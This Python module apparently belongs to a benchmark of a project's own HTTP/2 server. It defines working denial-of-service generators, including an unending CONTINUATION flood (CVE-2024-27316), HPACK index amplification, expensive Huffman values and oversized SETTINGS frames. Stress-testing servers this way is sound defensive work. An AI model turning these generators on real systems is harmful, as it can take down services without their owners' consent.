"""Attacks by header blocks: without an end, or cheap to send and costly to decode."""

from collections.abc import Callable
from functools import cache, partial

from hpack.hpack import encode_integer
from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH

from benchmarks.attacks.link import CLASSIFY, Attack, Link, Pieces, block, cancel, headers, literal, text
from serving.transport import frames
from serving.transport.headers import MAX_BLOCK_BYTES

_LARGE_BLOCK_BYTES = 36 * 1024
_COOKIES_A_BLOCK = 8000
_EMPTY_HEADERS_A_BLOCK = 1500
_PIECES_A_BLOCK = 8
_ENTRIES_OF_SETTINGS = 2730
_LARGE_HALVES = 200
_PACKED_CHARACTERS = 15_500
_PARTS = 3900
_PARTS_A_BLOCK = 15
_INDEXED = b"\xbe"  # the newest entry of the table (RFC 7541, section 6.1)


def _continuations(link: Link) -> Pieces:
    """Send a header block that does not end (CVE-2024-27316)."""
    yield from link.ready()
    stream = link.next_stream()
    yield frames.frame(frames.HEADERS, 0, stream, block(CLASSIFY))
    piece = literal("x", "y" * 1000) * 15
    while True:
        yield frames.frame(frames.CONTINUATION, 0, stream, piece)


def _large_halves(link: Link) -> Pieces:
    """Send nearly the largest block that the server keeps, without its end, then nothing."""
    yield from link.ready()
    stream = link.next_stream()
    yield frames.frame(frames.HEADERS, 0, stream, block(CLASSIFY))
    piece = frames.frame(frames.CONTINUATION, 0, stream, bytes(frames.MAX_FRAME_BYTES))
    for _ in range(MAX_BLOCK_BYTES // frames.MAX_FRAME_BYTES - 1):
        yield piece


def _empty_continuations(link: Link) -> Pieces:
    """Send a header block that does not end, in frames without a byte of it."""
    yield from link.ready()
    stream = link.next_stream()
    yield frames.frame(frames.HEADERS, 0, stream, block(CLASSIFY))
    while True:
        yield frames.frame(frames.CONTINUATION, 0, stream) * 1000


def _blocks(link: Link, make: Callable[[], bytes], closed: bool = False) -> Pieces:
    """Send a block again and again, each time on a new stream, or all on one that is closed."""
    yield from link.ready()
    header_block = make()
    stream = link.next_stream()
    yield headers(stream, CLASSIFY) + cancel(stream)
    while True:
        if not closed:
            stream = link.next_stream()
        yield frames.header_frames(stream, header_block, True)


def _cookies(link: Link) -> Pieces:
    """Name one cookie thousands of times, a byte each, by its place in the table."""
    yield from link.ready()
    stream = link.next_stream()
    yield frames.header_frames(stream, block(CLASSIFY) + b"\x60\x03a=b", True)
    while True:
        yield frames.header_frames(link.next_stream(), block(CLASSIFY) + b"\xbe" * _COOKIES_A_BLOCK, True)


def _parts(link: Link) -> Pieces:
    """Name a binary header of thousands of values by its place in the table."""
    yield from link.ready()
    stream = link.next_stream()
    kept = b"\x40" + text("x-bin") + text("," * _PARTS)
    yield frames.header_frames(stream, block(CLASSIFY) + kept, True)
    while True:
        yield frames.header_frames(link.next_stream(), block(CLASSIFY) + _INDEXED * _PARTS_A_BLOCK, True)


def _giant_settings(link: Link) -> Pieces:
    yield from link.ready()
    entry = frames.settings({frames.INITIAL_WINDOW_SIZE: 2**16})[frames.HEAD.size :]
    while True:
        yield frames.frame(frames.SETTINGS, 0, 0, entry * _ENTRIES_OF_SETTINGS)


def _pieces(link: Link) -> Pieces:
    """Send a block below the limits in as small pieces as the server takes."""
    yield from link.ready()
    header_block = _block_below_limits()
    size = -(-len(header_block) // _PIECES_A_BLOCK)
    pieces = [header_block[at : at + size] for at in range(size, len(header_block), size)]
    while True:
        stream = link.next_stream()
        first = frames.frame(frames.HEADERS, frames.END_STREAM, stream, header_block[:size])
        rest = (frames.frame(frames.CONTINUATION, 0, stream, piece) for piece in pieces[:-1])
        yield first + b"".join(rest) + frames.frame(frames.CONTINUATION, frames.END_HEADERS, stream, pieces[-1])


def _trailers(link: Link) -> Pieces:
    """End each call with as many headers as the server reads."""
    yield from link.ready()
    trailers = literal("x", "y" * 100) * 110
    while True:
        stream = link.next_stream()
        yield headers(stream, CLASSIFY) + frames.header_frames(stream, trailers, True)


def _large_block() -> bytes:
    return block(CLASSIFY) + literal("x", "y" * 100) * (_LARGE_BLOCK_BYTES // 105)


def _block_below_limits() -> bytes:
    """Return a block of less than 128 headers and 16 KB."""
    return block(CLASSIFY) + literal("x", "y" * 100) * 110


@cache
def _packed_block() -> bytes:
    """Return a block below the limits with a value in Huffman's code, which takes long to unpack."""
    # The code of this letter has eight bits.
    value = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH).encode(b"Z") * _PACKED_CHARACTERS
    length = bytearray(encode_integer(len(value), 7))
    length[0] |= 0x80  # in Huffman's code
    return block(CLASSIFY) + b"\0" + text("x") + bytes(length) + value


def _empty_block() -> bytes:
    """Return names and values of no character, written in Huffman's code."""
    return b"\x83\x86\x84" + b"\x00\x80\x80" * _EMPTY_HEADERS_A_BLOCK


HEADER_BLOCKS = (
    Attack("continuation flood", _continuations),
    Attack("large headers without an end", _large_halves, times=_LARGE_HALVES),
    Attack("empty continuations", _empty_continuations),
    Attack("empty Huffman headers", partial(_blocks, make=_empty_block)),
    Attack("header blocks on a closed stream", partial(_blocks, make=_large_block, closed=True)),
    Attack("header blocks on new streams", partial(_blocks, make=_large_block)),
    Attack("header blocks below the limits", partial(_blocks, make=_block_below_limits)),
    Attack("header blocks in pieces", _pieces),
    Attack("trailers", _trailers),
    Attack("many cookies", _cookies),
    Attack("long Huffman values", partial(_blocks, make=_packed_block)),
    Attack("long Huffman values on a closed stream", partial(_blocks, make=_packed_block, closed=True)),
    Attack("binary headers of many values", _parts),
    Attack("giant SETTINGS", _giant_settings),
)
